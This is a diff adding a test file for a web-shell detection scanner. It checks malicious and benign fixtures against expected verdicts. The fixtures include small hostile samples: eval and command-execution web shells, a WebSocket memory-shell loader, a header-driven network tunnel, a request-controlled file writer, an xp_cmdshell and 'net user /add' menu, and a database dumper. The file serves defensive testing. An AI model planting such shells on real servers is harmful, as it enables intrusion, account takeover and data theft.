@@ -1,0 +1,122 @@
+/**
+ * Mechanisms beyond a single request-to-sink call: typographic quotes in copied shells,
+ * WebSocket memory shells, tunnels that build the target address from headers, log
+ * handlers as file writers, attack-tool menus, whole-database dumpers, and CGI scripts whose
+ * request data arrives through read(STDIN), loops or getter functions. Fixtures are inert
+ * text written for these tests; nothing is executed.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { scanBytes } from '../../src/scan/scan-bytes.js';
+import { DEFAULT_LIMITS } from '../../src/scan/types.js';
+import { findingOf, reasons } from './helpers.js';
+
+test('typographic quotes copied into code are read as quotes (UTF-8 bytes)', () => {
+  const page = '<%@ Page Language=\u201dJscript\u201d%><%eval(Request.Item[\u201cz\u201d],\u201dunsafe\u201d);%>';
+  const f = scanBytes('x.aspx', Buffer.from(page, 'utf8'), { limits: DEFAULT_LIMITS })[0]!.finding;
+  assert.equal(f?.verdict, 'malicious');
+  assert.ok(reasons(f).includes('request input reaches JScript eval'));
+  // prose with typographic quotes and no code around them stays as it is, and clean
+  const prose = '<%@ Page Language="C#" %><p>He said \u201chello\u201d to the \u2018world\u2019.</p>';
+  assert.equal(scanBytes('y.aspx', Buffer.from(prose, 'utf8'), { limits: DEFAULT_LIMITS })[0]!.finding, undefined);
+});
+
+const WS_MEMSHELL = `<%@ page import="javax.websocket.server.*" %>
+<%
+ServerEndpointConfig cfg = ServerEndpointConfig.Builder.create(Ep.class, "/ws").build();
+ServerContainer sc = (ServerContainer) application.getAttribute("javax.websocket.server.ServerContainer");
+sc.addEndpoint(cfg);
+%>`;
+const WS_LIBRARY = `package org.example.ws;
+import javax.websocket.server.ServerContainer;
+public class Registrar {
+  public void register(ServerContainer sc, Class<?> c) throws Exception { sc.addEndpoint(c); }
+}`;
+
+test('jsp: a page that adds a WebSocket endpoint at runtime is a memory-shell loader; a library doing it is weaker', () => {
+  const f = findingOf('ws.jsp', WS_MEMSHELL);
+  assert.equal(f?.verdict, 'suspicious');
+  assert.equal(f?.score, 9);
+  assert.ok(reasons(f).includes('registers a filter/servlet/listener/endpoint into the running server (memory shell loader)'));
+  const lib = findingOf('Registrar.java', WS_LIBRARY);
+  assert.equal(lib?.score, 6);
+});
+
+const JSP_TUNNEL = `<%@ page import="java.nio.channels.*,java.net.*" %><%
+String target = request.getHeader("X-T");
+int port = Integer.parseInt(request.getHeader("X-P"));
+SocketChannel ch = SocketChannel.open();
+ch.connect(new InetSocketAddress(target, port));
+%>`;
+const JSP_LOGGER_WRITER = `<%java.util.logging.Logger l = java.util.logging.Logger.getLogger("t");
+java.util.logging.FileHandler h = new java.util.logging.FileHandler(application.getRealPath("/") + request.getParameter("f"), true);
+l.addHandler(h); l.info(request.getParameter("t"));%>`;
+
+test('jsp: tunnel address built from request headers; FileHandler as a request-chosen file writer', () => {
+  const t = findingOf('t.jsp', JSP_TUNNEL);
+  assert.ok(reasons(t).includes('request input chooses a network host/port to connect to (tunnel)'));
+  const w = findingOf('l.jsp', JSP_LOGGER_WRITER);
+  assert.ok(reasons(w).includes('request input reaches file write'));
+});
+
+const ASPX_TOOL_MENU = `<%@ Page Language="C#" %>
+<asp:TextBox ID="c" runat="server" Text="cmd.exe /c net user backup P4ss /add" />
+<asp:ListItem Value="EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE">enable</asp:ListItem>
+<asp:ListItem Value="exec master..xp_cmdshell 'whoami'">run</asp:ListItem>`;
+const ASPX_ADMIN_DOC = `<%@ Page Language="C#" %>
+<p>Never enable xp_cmdshell on production servers.</p>`;
+
+test('attack-tool menus: two or more operations are a shell, one word on a page is not', () => {
+  const f = findingOf('spy.aspx', ASPX_TOOL_MENU);
+  assert.equal(f?.verdict, 'suspicious');
+  assert.match(reasons(f)[0]!, /^offers attack operations: adds an OS account; enables or runs SQL Server command execution/);
+  assert.equal(findingOf('doc.aspx', ASPX_ADMIN_DOC), undefined);
+});
+
+const JSP_DUMPER = `<%@ page import="java.sql.*,java.io.*" %><%
+Connection c = DriverManager.getConnection(url, user, pass);
+ResultSet t = c.getMetaData().getTables(null, null, "%", null);
+while (t.next()) {
+  String table = t.getString(3);
+  Writer w = new FileWriter(new File("c:/", table + ".txt"));
+  ResultSet r = c.createStatement().executeQuery("SELECT * FROM " + table);
+}
+%>`;
+
+test('jsp: every table walked and written out is a database dumper; reading one table is not', () => {
+  const f = findingOf('d.jsp', JSP_DUMPER);
+  assert.equal(f?.verdict, 'suspicious');
+  assert.ok(reasons(f).includes('walks every table and copies every row out (database dumper)'));
+  const one = JSP_DUMPER.replace(/getTables\([^)]*\)/, 'executeQuery("select name from users")');
+  assert.ok(!reasons(findingOf('e.jsp', one)).includes('walks every table and copies every row out (database dumper)'));
+});
+
+const PERL_CGI = `#!/usr/bin/perl
+print "Content-type: text/html\\n\\n";
+read(STDIN, $buf, $ENV{'CONTENT_LENGTH'});
+@parts = split(/=/, $buf);
+$out = \`$parts[1]\`;
+print $out;`;
+const PY_CGI = `import os
+def arg(name):
+    qs = os.environ['QUERY_STRING']
+    for pair in qs.split('&'):
+        k, v = pair.split('=')
+        if k == name:
+            return v
+cmd = arg('c')
+print(os.popen(cmd).read())`;
+const PY_BENIGN = `import os
+def home():
+    return os.path.expanduser('~')
+print(os.popen('uptime').read())`;
+
+test('CGI scripts: request body through read(STDIN) and sigil-changing arrays; getter functions and loop variables', () => {
+  const p = findingOf('x.cgi', PERL_CGI);
+  assert.equal(p?.verdict, 'malicious');
+  assert.ok(reasons(p).some((r) => r.startsWith('request-derived variable reaches `$parts[1]`')));
+  const y = findingOf('x.py', PY_CGI);
+  assert.equal(y?.verdict, 'malicious');
+  assert.ok(reasons(y).includes('request-derived variable reaches os.popen'));
+  assert.equal(findingOf('y.py', PY_BENIGN), undefined);
+});
